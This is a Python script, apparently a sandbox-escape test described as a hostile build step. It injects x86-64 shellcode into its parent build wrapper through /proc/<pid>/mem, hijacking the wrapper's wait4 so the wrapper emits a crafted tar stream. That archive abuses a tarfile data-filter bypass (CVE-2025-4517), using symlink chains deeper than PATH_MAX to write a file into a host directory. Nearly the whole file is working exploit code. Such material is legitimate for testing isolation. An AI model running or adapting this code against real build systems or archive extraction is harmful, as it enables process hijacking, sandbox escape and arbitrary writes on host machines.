"""Hostile build step: ``python wrapper_hijack.py ACTION TARGET`` goes after the build wrapper, its parent.

The wrapper sends the arena a tar stream of what the build made.  ``probe`` reports whether the
wrapper's memory can be written (``PROBE mem: writable`` or ``PROBE mem: refused ...``).
``hijack`` writes x86-64 code over the wrapper's ``wait4`` (where it waits for this step), so
that when this step exits the wrapper sends the arena a stream of the step's own making and
exits 0.  The stream is crafted against ``tarfile``'s ``data`` filter before CVE-2025-4517: a
chain of links deeper than PATH_MAX makes ``os.path.realpath`` stop resolving, the filter
believes a link to TARGET (a host folder) stays inside, and ``escape/pwned`` is written there.
"""

import io
import os
import struct
import sys
import tarfile


def crafted(target: str) -> bytes:
    comp, steps = "d" * 247, "abcdefghijklmnop"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:

        def add(name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mode, info.size = kind, link, 0o755, len(data)
            tar.addfile(info, io.BytesIO(data) if data else None)

        path = ""
        for step in steps:
            add(os.path.join(path, comp), tarfile.DIRTYPE)
            add(os.path.join(path, step), tarfile.SYMTYPE, comp)
            path = os.path.join(path, step)
        deep = os.path.join(path, "l" * 254)
        add(deep, tarfile.SYMTYPE, "../" * len(steps))
        add("escape", tarfile.SYMTYPE, deep + "/.." * 7 + target)
        add("escape/pwned", tarfile.REGTYPE, data=b"written by a build step, as root\n")
    return buffer.getvalue()


def main(action: str, target: str) -> None:
    parent = os.getppid()
    try:
        fd = os.open(f"/proc/{parent}/mem", os.O_RDWR)
    except OSError as exc:
        print(f"PROBE mem: refused ({exc.strerror})", flush=True)
        sys.exit(3)
    print("PROBE mem: writable", flush=True)
    if action == "probe":
        sys.exit(3)
    payload = crafted(target)
    with open(f"/proc/{parent}/syscall") as syscall:
        pc = int(syscall.read().split()[-1], 16)  # just after the wrapper's wait4
    # lea rsi,[rip+41]; mov rdx,len; again: write(1, rsi, rdx); jle done; rsi+=rax; rdx-=rax; jnz again;
    # done: exit_group(0); then the payload.
    code = bytes.fromhex("488d35") + struct.pack("<i", 41) + bytes.fromhex("48c7c2") + struct.pack("<i", len(payload))
    code += bytes.fromhex("bf01000000b8010000000f054885c07e084801c64829c275e731ffb8e70000000f05")
    os.pwrite(fd, code + payload, pc)
    os.close(fd)
    print(f"PROBE hijack: the wrapper sends {len(payload)} bytes of mine", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else "/tmp")
